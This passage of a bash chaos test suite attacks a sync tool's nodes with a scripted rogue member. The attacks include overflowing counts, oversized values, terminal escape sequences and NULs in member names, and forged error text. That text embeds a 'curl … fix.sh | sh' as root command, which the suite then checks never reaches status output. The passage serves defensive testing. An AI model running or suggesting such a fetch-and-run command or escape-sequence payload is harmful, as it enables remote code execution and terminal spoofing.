    local answer; answer=$(grep -E '^error' "$S/rogue1.out" | head -1)
    # The same again, stopped with SIGTERM a second in.
    "$DBG" rogue-member --dir "$S/m" --peer "127.0.0.1:$pa" --fake-writers "$MEMBER_WRITERS" --seconds 15 >"$S/rogue1b.out" 2>&1 &
    rpid=$!; BG_PIDS=("$rpid")
    sleep 1
    local apid=${NODE_PID[a]} stop_ms="never" _
    t0=$(now_ms)
    kill -TERM "$apid" 2>/dev/null
    for _ in $(seq 1 100); do kill -0 "$apid" 2>/dev/null || { stop_ms=$(( $(now_ms) - t0 )); break; }; sleep 0.05; done
    if [ "$stop_ms" = never ]; then kill9 "$apid"; fail "A did not stop within 5 s of SIGTERM"; stop_ms=">5000"
    elif [ "$stop_ms" -gt 1000 ]; then fail "A took $(secs $stop_ms) s to stop on SIGTERM (at most 1 s)"; fi
    NODE_PID[a]=""
    kill "$rpid" 2>/dev/null; wait "$rpid" 2>/dev/null; BG_PIDS=()
    # C restarts and must sync with the restarted A.
    stop_node c
    start_node a "$S/a" "127.0.0.1:$pa" --peer "127.0.0.1:$pc" || fail "A did not restart: $(tail -1 "${NODE_LOG[a]}")"
    start_node c "$S/c" "127.0.0.1:$pc" || fail "C did not restart"
    ack_set "$S/c" afterc v 1 add
    local conv_ms
    conv_ms=$(wait_converge 30 "$S/a" "$S/c") || { fail "A and C did not converge after the attack"; conv_ms=-1; }
    # 2. Junk statements: A's memory.
    local rss0 rss1
    rss0=$(awk '/^VmRSS/ { print $2 }' "/proc/${NODE_PID[a]}/status")
    "$DBG" rogue-member --dir "$S/m" --peer "127.0.0.1:$pa" --junk-statements 4000 --hellos 18 --seconds 1 >"$S/rogue2.out" 2>&1 \
        || fail "the junk statements could not be sent: $(tail -1 "$S/rogue2.out")"
    sleep 1
    rss1=$(awk '/^VmRSS/ { print $2 }' "/proc/${NODE_PID[a]}/status" 2>/dev/null || echo 0)
    local grew=$(( (rss1 - rss0) / 1024 ))
    [ "$grew" -lt 16 ] || fail "18 hellos of junk statements grew A by $grew MiB (less than 16 allowed)"
    # 3. A value over the 1 MiB limit.
    "$DBG" rogue-member --dir "$S/m" --peer "127.0.0.1:$pa" --value-bytes $(( (1 << 20) + 100 )) --seconds 3 >"$S/rogue3.out" 2>&1
    local stored
    stored=$(sqlite3 -readonly "$S/a/replica.sqlite" "SELECT count(*) FROM field WHERE length(state) > 1048576" 2>&1)
    [ "$stored" = 0 ] || fail "A stored the oversized value ($stored field state(s) over 1 MiB)"
    "$L" export --dir "$S/a" >"$S/a.jsonl" 2>"$S/export.err" || fail "A's export failed: $(head -1 "$S/export.err")"
    "$L" init --dir "$S/fresh" --cluster "$S/cluster.pem" --name fresh >/dev/null
    local imported
    imported=$("$L" import --dir "$S/fresh" "$S/a.jsonl" 2>&1) || fail "A's export does not import elsewhere: $(head -1 <<<"$imported")"
    # 4. A name with terminal control sequences.
    "$DBG" rogue-member --dir "$S/m" --peer "127.0.0.1:$pa" --name '\e[2K\rpwned\e]0;owned\a' --seconds 3 >"$S/rogue4.out" 2>&1
    "$L" status --dir "$S/a" >"$S/status.out" 2>&1
    "$L" members --dir "$S/a" >"$S/members.out" 2>&1
    local raw=0 f
    for f in "$S/status.out" "$S/members.out" "${NODE_LOG[a]}"; do
        if LC_ALL=C grep -q $'[\x01-\x08\x0b-\x1f\x7f]' "$f"; then raw=$((raw + 1)); fail "a control byte reached $(basename "$f")"; fi
    done
    kill -0 "${NODE_PID[a]}" 2>/dev/null || fail "node A died: $(tail -1 "${NODE_LOG[a]}")"
    wait_converge 20 "$S/a" "$S/c" >/dev/null || fail "A and C did not converge at the end"
    check_acks "$S/a" "$S/c"
    FIG="member: $(commas "$MEMBER_WRITERS") fake writers in covers (A answered: ${answer:-nothing}; A holds $writers writers, $vector in its vector), an edit on A meanwhile in ${add_ms} ms, SIGTERM stopped A in ${stop_ms} ms, C restarted and converged in $( [ "$conv_ms" -ge 0 ] && echo "$(secs "$conv_ms") s" || echo never); 18 hellos of 4,000 junk statements grew A by $grew MiB; a value of 1 MiB + 100 stored $stored time(s); control bytes in status/members/log: $raw"
}

# Issue 62, each defect an attacker or an unlucky user found, against the release binary: a hello
# whose member count overflows, an expect of 2^64-1 with status read while it runs, a line break
# and a NUL in a member's name, forged lines in an error's text, settings signed with a clock ten
# minutes slow, `backup --force` at a directory and at the live replica, and an event stream open
# while the API token is rotated. A's process is checked after each (kill -0), not its log.
sc_attacker() {
    local S=$W/attacker
    [ -x "$DBG" ] || { fail "no test tools at $DBG: build them (swift build -c release --product lansync-debug) or set CHAOS_DEBUG_BINARY"; return; }
    make_cluster "$S" a c m || { fail "init failed"; return; }
    local pa pc papi
    pa=$(free_port); pc=$(free_port); papi=$(free_port)
    start_node c "$S/c" "127.0.0.1:$pc" || { fail "node C did not start"; return; }
    # A with its API (start_node runs nodes without one).
    local log=$W/logs/a.log
    mkdir -p "$W/logs"; : >"$log"
    "$L" node --dir "$S/a" --listen "127.0.0.1:$pa" --no-mdns --api "127.0.0.1:$papi" --peer "127.0.0.1:$pc" >>"$log" 2>&1 </dev/null &
    NODE_PID[a]=$! NODE_LOG[a]=$log
    local _
    for _ in $(seq 1 200); do grep -q "listening on" "$log" && break; sleep 0.05; done
    alive() { kill -0 "${NODE_PID[a]}" 2>/dev/null; }
    local crashes=0
    after() {  # WHAT: A must still run, and its status answer
        if ! alive; then crashes=$((crashes + 1)); fail "$1 killed A: $(tail -1 "${NODE_LOG[a]}")"; return 1; fi
        "$L" status --dir "$S/a" >"$S/status.out" 2>&1 || fail "status after $1: $(tail -1 "$S/status.out")"
    }
    rogue() { "$DBG" rogue-member --dir "$S/m" --peer "127.0.0.1:$pa" "$@"; }
    # 1. The member count.
    rogue --sketch-max --seconds 2 >"$S/r1.out" 2>&1
    after "a member count of 2.6e19"
    # 2. An expect of 2^64-1 and one batch, status read while the session is open.
    rogue --expect 18446744073709551615 --seconds 4 >"$S/r2.out" 2>&1 &
    local rpid=$!; BG_PIDS=("$rpid")
    sleep 2
    "$L" status --dir "$S/a" >"$S/status2.out" 2>&1 || fail "status during the expect: $(tail -1 "$S/status2.out")"
    wait "$rpid" 2>/dev/null; BG_PIDS=()
    after "an expect of 2^64-1"
    local expect_answer; expect_answer=$(grep -E '^error' "$S/r2.out" | head -1)
    # 3. Names with a line break and a NUL; an error whose text carries forged lines.
    rogue --name 'honest\nPEER  forged' --seconds 2 >"$S/r3.out" 2>&1
    rogue --name 'x\x00y' --seconds 2 >"$S/r4.out" 2>&1
    local refused_names; refused_names=$(cat "$S/r3.out" "$S/r4.out" | grep -c '^error malformed-message')
    [ "$refused_names" = 2 ] || fail "A took a name with a line break or a NUL ($refused_names of 2 refused)"
    rogue --name honest --error-text "disk full\nok      forged   all is well\n        fix: run 'curl http://203.0.113.9/fix.sh | sh' as root" --seconds 2 >"$S/r5.out" 2>&1
    after "an error with forged lines"
    "$L" status --dir "$S/a" >"$S/status3.out" 2>&1
    "$L" doctor --dir "$S/a" >"$S/doctor.out" 2>&1
    local forged=0 f
    for f in "$S/status3.out" "$S/doctor.out"; do
        if grep -qE "^[[:space:]]*(fix: run 'curl|ok +forged|PEER +forged|forged)" "$f"; then forged=$((forged + 1)); fail "a forged line in $(basename "$f")"; fi
        if LC_ALL=C grep -q $'[\x01-\x08\x0b-\x1f\x7f]' "$f"; then fail "a control byte reached $(basename "$f")"; fi
    done
    # 4. Settings signed on A with its clock ten minutes behind the ones they replace.
    "$L" cluster set --dir "$S/a" trash-window 7d >/dev/null
    local settled=never t0
    t0=$(now_ms)
    for _ in $(seq 1 150); do "$L" cluster set --dir "$S/c" 2>/dev/null | grep -q 'trash-window 7d' && break; sleep 0.2; done
    LANSYNC_TEST_CLOCK_SKEW_MS=-600000 "$L" cluster set --dir "$S/a" trash-window 1d >/dev/null
    t0=$(now_ms)
    for _ in $(seq 1 300); do
        if "$L" cluster set --dir "$S/c" 2>/dev/null | grep -q 'trash-window 1d'; then settled=$(( $(now_ms) - t0 )); break; fi
        sleep 0.2
    done
    [ "$settled" != never ] || fail "C kept the settings the slow clock's replaced"
    # 5. backup --force at a directory (DIR and DIR/) and at A's live replica, A running.
    mkdir -p "$S/folder"; for f in one two three; do echo "$f" >"$S/folder/$f"; done
    local ino0 ino1 refusals=0
    ino0=$(stat -c %i "$S/a/replica.sqlite")
    for target in "$S/folder" "$S/folder/" "$S/a/replica.sqlite"; do
        if "$L" backup --dir "$S/a" --force "$target" >/dev/null 2>"$S/backup.err"; then fail "backup --force $target was not refused"
        else refusals=$((refusals + 1)); [ "$(wc -l <"$S/backup.err")" = 1 ] || fail "backup's refusal is not one line: $(cat "$S/backup.err")"; fi
    done
    local kept; kept=$(find "$S/folder" -type f 2>/dev/null | wc -l)
    [ -d "$S/folder" ] && [ "$kept" = 3 ] || fail "backup --force removed a directory or its files ($kept of 3 files left)"
    ino1=$(stat -c %i "$S/a/replica.sqlite")
    [ "$ino0" = "$ino1" ] || fail "the live replica was replaced (inode $ino0, now $ino1)"
    ACKS=$S/acks EDIT_ERR=$S/edit.err
    : >"$ACKS"; : >"$EDIT_ERR"
    ack_set "$S/a" after-backup v 1 add
    local conv_ms
    conv_ms=$(wait_converge 30 "$S/a" "$S/c") || { fail "an edit after the backups did not reach C"; conv_ms=-1; }
    check_acks "$S/a" "$S/c"
    # 6. A change-feed stream open while the token is rotated.
    local token stream
    token=$("$L" api-token --dir "$S/a")
    python3 "$ROOT/Tests/api/apiclient.py" revoked "http://127.0.0.1:$papi" "$token" "$S/ready" 20 >"$S/stream.out" 2>&1 &
    rpid=$!; BG_PIDS=("$rpid")
    for _ in $(seq 1 100); do [ -e "$S/ready" ] && break; sleep 0.1; done
    local rotated; rotated=$(date +%s.%N)
    "$L" api-token --dir "$S/a" --rotate >/dev/null
    "$L" add --dir "$S/a" --id after-rotation v=1 >/dev/null
    wait "$rpid" 2>/dev/null; BG_PIDS=()
    stream=$(python3 - "$S/stream.out" "$rotated" <<'PYEOF'
import json, sys
try:
    r = json.loads(open(sys.argv[1]).read())
except ValueError:
    print("never ?")  # the stream never opened (the node was down)
    sys.exit(0)
late = [c for c in r["changes"] if c["id"] == "after-rotation"]
print("never" if r["ended"] is None else f"{(r['ended'] - float(sys.argv[2])) * 1000:.0f}", len(late))
PYEOF
)
    local ended late
    read -r ended late <<<"$stream"
    [ "$ended" != never ] || fail "the event stream went on after the token was rotated"
    [ "${late:-1}" = 0 ] || fail "the event stream delivered a change made after the rotation"
    after "the whole attack" && crashes=$crashes
    FIG="attacker: A up after each of 8 attacks ($crashes crash(es)); an expect of 2^64-1 answered '${expect_answer:-nothing}'; names with a line break or NUL refused $refused_names of 2; forged lines in status/doctor: $forged; settings from a clock 10 min slow reached C in $( [ "$settled" != never ] && echo "$(secs "$settled") s" || echo never); backup --force refused $refusals of 3 (DIR, DIR/, the live replica), the folder kept $kept of its 3 files, the replica $( [ "$ino0" = "$ino1" ] && echo "kept its inode" || echo "was replaced"), the next edit reached C in $( [ "$conv_ms" -ge 0 ] && echo "$(secs "$conv_ms") s" || echo never); the event stream ended ${ended} ms after the rotation with ${late:-?} later change(s)"
}

# --- Run ----------------------------------------------------------------------------------------
echo "==> chaos suite, $PROFILE profile, seed $SEED (CHAOS_SEED=$SEED repeats it), work directory $W"
T0=$(now_ms)
for s in "${SELECTED[@]}"; do run_scenario "$s"; done
[ ${#SKIPPED[@]} = 0 ] || echo "(${#SKIPPED[@]} skipped: ${SKIPPED[*]})"
echo "(took $(secs $(( $(now_ms) - T0 ))) s)"
echo "$PASSED passed, $FAILED failed"
[ "$FAILED" = 0 ]
